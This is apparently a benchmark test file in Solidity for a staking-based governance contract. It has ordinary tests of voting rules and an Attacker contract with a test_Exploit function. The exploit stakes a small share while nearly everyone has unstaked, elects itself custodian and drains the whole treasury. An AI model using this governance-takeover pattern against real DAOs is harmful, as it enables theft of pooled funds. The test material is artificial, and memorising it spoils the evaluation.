// SPDX-License-Identifier: MPL-2.0
pragma solidity 0.8.30;

import "./SandgrouseAssembly.sol";

// assay-canary-e92ef4fe-1ab8-411e-badd-1c33bc9a8b47

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is IHeld {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// A token that answers "false" where others revert.
contract Polite is IHeld {
    function transfer(address, uint256) external pure returns (bool) {
        return false;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant FOUNDER = address(0xF0);
    address internal constant MEMBER = address(0x3E3);
    uint256 internal constant START = 1_785_000_000;

    Token internal usd;
    Seats internal seats;
    SandgrouseAssembly internal assembly_;
    Attacker internal thief;

    function setUp() public {
        vm.warp(START);
        usd = new Token();
        seats = new Seats(1_000_000e18, address(this));
        assembly_ = new SandgrouseAssembly(seats, FOUNDER);
        usd.mint(address(assembly_), 72_000e6);
        seats.transfer(MEMBER, 600_000e18);
        thief = new Attacker(assembly_, seats, usd);
        seats.transfer(address(thief), 10_000e18);
        _sit(5e18); // nearly everyone has stood up
    }

    function _sit(uint256 amount) internal {
        vm.prank(MEMBER);
        seats.approve(address(assembly_), amount);
        vm.prank(MEMBER);
        assembly_.sit(amount);
    }

    function test_Regular() public {
        _sit(599_000e18);
        vm.prank(MEMBER);
        uint256 id = assembly_.propose(SandgrouseAssembly.Kind.Custodian, uint160(MEMBER));
        vm.prank(MEMBER);
        assembly_.vote(id, true);
        vm.prank(MEMBER);
        (bool ok, ) = address(assembly_).call(abi.encodeCall(SandgrouseAssembly.vote, (id, true)));
        require(!ok, "twice");
        vm.prank(MEMBER);
        (ok, ) = address(assembly_).call(abi.encodeCall(SandgrouseAssembly.standUp, (1e18)));
        require(!ok, "bound");
        vm.warp(START + 6 days);
        (ok, ) = address(assembly_).call(abi.encodeCall(SandgrouseAssembly.enact, (id)));
        require(!ok, "without notice");
        vm.warp(START + 8 days);
        assembly_.enact(id);
        require(assembly_.custodian() == MEMBER, "custodian");
        vm.prank(FOUNDER);
        (ok, ) = address(assembly_).call(abi.encodeCall(SandgrouseAssembly.send, (usd, FOUNDER, 1)));
        require(!ok, "no longer");
        vm.prank(MEMBER);
        assembly_.send(usd, FOUNDER, 1_000e6);
        require(usd.balanceOf(FOUNDER) == 1_000e6, "sent");
        vm.prank(MEMBER);
        assembly_.standUp(599_005e18);
        require(seats.balanceOf(MEMBER) == 600_000e18, "seats");
    }

    function test_RefusesWhoDoesNotSit() public {
        vm.prank(FOUNDER);
        vm.expectRevert(SandgrouseAssembly.NotSitting.selector);
        assembly_.propose(SandgrouseAssembly.Kind.Custodian, uint160(FOUNDER));

        uint256 id = _propose();
        vm.warp(START + 1);
        _sit(599_000e18);
        vm.prank(MEMBER);
        vm.expectRevert(SandgrouseAssembly.SatDownLater.selector);
        assembly_.vote(id, true);
    }

    function _propose() internal returns (uint256) {
        vm.prank(MEMBER);
        return assembly_.propose(SandgrouseAssembly.Kind.Custodian, uint160(MEMBER));
    }

    function test_RefusesVotesAfterTheEnd() public {
        uint256 id = _propose();
        vm.warp(START + 5 days);
        vm.prank(MEMBER);
        vm.expectRevert(SandgrouseAssembly.VotingOver.selector);
        assembly_.vote(id, true);
    }

    function test_RefusesWhatWasNotCarried() public {
        _sit(599_000e18);
        uint256 against = _propose();
        uint256 carried = _propose();
        uint256 late = _propose();
        vm.prank(MEMBER);
        assembly_.vote(against, false);
        vm.prank(MEMBER);
        assembly_.vote(carried, true);
        vm.prank(MEMBER);
        assembly_.vote(late, true);

        vm.warp(START + 8 days);
        vm.expectRevert(SandgrouseAssembly.NotCarried.selector);
        assembly_.enact(against);
        assembly_.enact(carried);
        vm.expectRevert(SandgrouseAssembly.NotCarried.selector);
        assembly_.enact(carried);
        vm.warp(START + 37 days + 1);
        vm.expectRevert(SandgrouseAssembly.NotCarried.selector);
        assembly_.enact(late);
    }

    function test_RefusesWhatTheTokenRefuses() public {
        Polite polite = new Polite();
        vm.prank(FOUNDER);
        vm.expectRevert(bytes(""));
        assembly_.send(polite, FOUNDER, 1);
    }

    function exploit() public {
        thief.propose();
        vm.warp(block.timestamp + 8 days);
        thief.finish();
    }

    function test_Exploit() public {
        exploit();
        require(assembly_.custodian() == address(thief), "custodian");
        require(usd.balanceOf(address(thief)) == 72_000e6, "trust");
    }

    function target() public view returns (address) {
        return address(assembly_);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Sits down in an empty hall.
contract Attacker {
    SandgrouseAssembly internal hall;
    Seats internal seats;
    Token internal usd;
    uint256 internal id;

    constructor(SandgrouseAssembly hall_, Seats seats_, Token usd_) {
        hall = hall_;
        seats = seats_;
        usd = usd_;
    }

    function propose() external {
        seats.approve(address(hall), 10_000e18);
        hall.sit(10_000e18);
        id = hall.propose(SandgrouseAssembly.Kind.Custodian, uint160(address(this)));
        hall.vote(id, true);
    }

    function finish() external {
        hall.enact(id);
        hall.send(usd, address(this), usd.balanceOf(address(hall)));
        hall.standUp(10_000e18);
    }
}
